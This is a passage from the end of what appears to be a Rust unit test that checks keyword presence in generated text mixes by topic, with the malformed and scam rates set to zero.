        assert!(!jobs.contains("hiking") && !jobs.contains("Beware"));
        let social = texts(Mix {
            topic: Topic::Social,
            malformed: 0.0,
            scam: 0.0,
            ..Mix::default()
        });
        assert!(!social.contains("Brightway") && social.contains("noodle"));
    }
}
